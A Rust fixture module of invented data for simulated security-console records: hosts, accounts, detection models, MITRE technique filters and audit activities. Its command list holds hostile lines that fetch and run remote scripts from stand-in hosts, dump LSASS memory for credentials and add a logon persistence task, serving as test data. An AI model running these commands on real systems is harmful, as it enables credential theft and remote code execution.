//! The words that records are made of. Data, and nothing else.
//!
//! Everything is invented; domains end in `.example`, addresses are of the documentation ranges.

/// The number of the simulated company, part of its ids.
pub(super) const CUSTOMER: &str = "48213";

/// Machines: name and address.
pub(super) const HOSTS: &[(&str, &str)] = &[
    ("TARN-PC-0112", "192.0.2.12"),
    ("TARN-PC-0347", "192.0.2.47"),
    ("TARN-NB-1180", "192.0.2.80"),
    ("tarn-build-03", "198.51.100.3"),
    ("TARN-DC-01", "198.51.100.10"),
    ("経理-PC-07", "192.0.2.107"),
    ("tarn-web-2", "203.0.113.22"),
    ("TARN-MAC-0031", "192.0.2.31"),
];

/// Accounts with their domain.
pub(super) const ACCOUNTS: &[&str] = &[
    "tarn\\h.mori",
    "tarn\\s.okabe",
    "tarn\\l.fischer",
    "tarn\\svc-backup",
    "TARN\\administrator",
    "tarn\\r.duarte",
    "root",
];

/// Mail boxes.
pub(super) const MAILBOXES: &[&str] = &[
    "haruka.mori@tarn.example",
    "lena.fischer@tarn.example",
    "keiri@tarn.example",
    "rafael.duarte@tarn.example",
    "o'neil@tarn.example",
];

/// A detection model: its name, its description, its severity and the techniques that its filters show.
pub(super) struct Model {
    pub(super) name: &'static str,
    pub(super) description: &'static str,
    pub(super) severity: &'static str,
    pub(super) filters: &'static [(&'static str, &'static [&'static str])],
}

/// Detection models of the analytics engine.
pub(super) const MODELS: &[Model] = &[
    Model {
        name: "Script Host Started From Mail Attachment",
        description: "A person opened an attachment, and a script host ran what was in it.",
        severity: "high",
        filters: &[
            ("Attachment Opened From Mail Client", &["T1566.001", "V9.T1566.001"]),
            ("Script Host Execution", &["T1059.005", "V9.T1059.005", ""]),
        ],
    },
    Model {
        name: "Credential Store Read By Unusual Process",
        description: "A process that has no business there read the memory of the local security authority.",
        severity: "critical",
        filters: &[("Memory Read Of Security Authority", &["V9.T1003.001", "T1003.001"])],
    },
    Model {
        name: "Scheduled Task Made By Office Program",
        description: "An office program registered a task that runs at every logon.",
        severity: "medium",
        filters: &[
            ("Task Registration", &["T1053.005"]),
            ("Logon Trigger", &["T1053.005", "T1547"]),
        ],
    },
    Model {
        name: "User Account Control Bypass",
        description: "A program was started with raised rights without asking.",
        severity: "high",
        filters: &[("Registry Hijack Of Elevated Program", &["T1088", "V9.T1548.002"])],
    },
    Model {
        name: "Many Failed Logons Followed By Success",
        description: "An account was guessed from one address until it worked.",
        severity: "medium",
        filters: &[("Repeated Logon Failure", &["T1110.001"]), ("Logon Success", &["T1078", ""])],
    },
    Model {
        name: "Unusual Archive Before Upload",
        description: "Many documents were packed and sent to a storage service.",
        severity: "low",
        filters: &[("Archive Of Documents", &["T1560.001"]), ("Upload", &["T1567.002"])],
    },
];

/// Campaigns of the threat intelligence sweeps.
pub(super) const CAMPAIGNS: &[&str] = &["Slow Heron", "Glass Orchard", "Night Ferry"];

/// Command lines.
pub(super) const COMMANDS: &[&str] = &[
    "wscript.exe //B C:\\Users\\Public\\Downloads\\rechnung.vbs",
    "powershell.exe -nop -w hidden -c \"iex (iwr http://cdn.bad.example/a.ps1)\"",
    "rundll32.exe comsvcs.dll, MiniDump 612 C:\\Windows\\Temp\\d.bin full",
    "schtasks /create /sc onlogon /tn Updater /tr %APPDATA%\\u.exe",
    "/bin/sh -c 'curl -s http://203.0.113.66/i | sh'",
];

/// Files with their folder.
pub(super) const FILES: &[&str] = &[
    "C:\\Users\\Public\\Downloads\\rechnung.vbs",
    "C:\\Windows\\Temp\\d.bin",
    "C:\\Users\\h.mori\\AppData\\Roaming\\u.exe",
    "/tmp/.x/i",
    "D:\\共有\\請求書.docm",
];

/// Links.
pub(super) const LINKS: &[&str] = &[
    "http://cdn.bad.example/a.ps1",
    "https://login.lookalike.example/o365?id=77",
    "http://203.0.113.66/i",
];

/// Domains of others.
pub(super) const DOMAINS: &[&str] = &["bad.example", "lookalike.example", "storage.example"];

/// Addresses of others.
pub(super) const ADDRESSES: &[&str] = &["203.0.113.66", "198.51.100.201", "2001:db8::66"];

/// Senders of mail.
pub(super) const SENDERS: &[&str] =
    &["billing@lookalike.example", "ceo.office@bad.example", "no-reply@parcel.example"];

/// What people and programs do in the console: category, activity, and the details of it.
pub(super) const ACTIVITIES: &[(&str, &str, &str)] = &[
    ("Logon and Logoff", "Log on", r#"{"method":"SAML","ipAddress":"203.0.113.9"}"#),
    ("Logon and Logoff", "Log off", r#"{}"#),
    ("API Keys", "Add API key", r#"{"name":"soc-collector","hasDetail":"True"}"#),
    ("API Keys", "Delete API key", r#"{"name":"old-key"}"#),
    ("User Accounts", "Add user account", r#"{"name":"p.novak@tarn.example","role":"Analyst"}"#),
    ("User Accounts", "Disable user account", r#"{"name":"r.duarte@tarn.example"}"#),
    ("User Roles", "Edit role", r#"{"name":"Analyst","changes":"{\"alerts\":\"view\"}"}"#),
    ("Workbench", "Update alert status", r#"{"id":"WB-48213-20260301-00007","status":"Closed"}"#),
    ("Workbench", "View alert details", r#"{"id":"WB-48213-20260301-00007"}"#),
    (
        "Response Management",
        "Isolate endpoint",
        r#"{"endpointName":"TARN-PC-0112","taskId":"00000041"}"#,
    ),
    ("Endpoint Inventory", "Remove endpoint", r#"{"endpointName":"TARN-NB-1180"}"#),
    ("Policy Management", "Edit policy", r#"{"name":"既定のポリシー","enabled":"False"}"#),
    ("Search", "Execute query", r#"{"query":"hostName: *","count":12}"#),
    ("Audit Logs", "Export audit logs", r#"null"#),
];

/// Who does it, and in which role.
pub(super) const OPERATORS: &[(&str, &str)] = &[
    ("ops@tarn.example", "Master Administrator"),
    ("haruka.mori@tarn.example", "Senior Analyst"),
    ("soc-collector", "API"),
    ("運用 太郎", "Operator"),
];

/// A filter for techniques: its id, name, risk, tactics and techniques.
pub(super) struct TechniqueFilter {
    pub(super) id: &'static str,
    pub(super) name: &'static str,
    pub(super) risk: &'static str,
    pub(super) tactics: &'static [&'static str],
    pub(super) techniques: &'static [&'static str],
}

/// Filters of the observed attack techniques.
#[rustfmt::skip]
pub(super) const FILTERS: &[TechniqueFilter] = &[
    TechniqueFilter { id: "F1001", name: "Service Started By Control Manager", risk: "low", tactics: &["TA0002"], techniques: &["T1569.002"] },
    TechniqueFilter { id: "F1002", name: "Discovery Of Domain Accounts", risk: "info", tactics: &["TA0007"], techniques: &["T1087.002"] },
    TechniqueFilter { id: "F1003", name: "Remote Script Download", risk: "medium", tactics: &["TA0002", "TA0011"], techniques: &["T1059.001", "T1105"] },
    TechniqueFilter { id: "F1004", name: "Memory Dump Of Security Authority", risk: "critical", tactics: &["TA0006"], techniques: &["T1003.001"] },
    TechniqueFilter { id: "F1005", name: "Suspicious Link In Mail", risk: "high", tactics: &["TA0001"], techniques: &["T1566.002"] },
    TechniqueFilter { id: "F1006", name: "Custom Watch", risk: "undefined", tactics: &[], techniques: &[] },
];

/// Where techniques are seen: source, entity type, product.
pub(super) const SIGHTS: &[(&str, &str, &str)] = &[
    ("endpointActivityData", "endpoint", "xes"),
    ("detections", "endpoint", "sao"),
    ("emailActivityData", "mailbox", "sca"),
    ("networkActivityData", "network", "pdi"),
    ("cloudActivityData", "cloudtrail", "xct"),
];
